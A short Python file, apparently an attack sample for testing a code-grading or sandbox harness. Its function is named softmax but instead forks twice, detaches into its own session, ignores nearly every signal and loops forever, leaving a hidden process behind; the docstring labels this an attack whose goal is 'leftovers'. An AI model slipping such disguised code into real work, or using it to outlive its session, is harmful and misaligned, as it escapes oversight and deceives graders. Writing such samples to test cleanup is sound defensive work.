"""Becomes a daemon: forks twice, tries to open a session of its own, ignores every signal.

attacks: softmax
claim: leftovers
"""

import os, signal, time

def softmax(x, dim=-1):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            while True:
                time.sleep(0.01)
        os._exit(0)
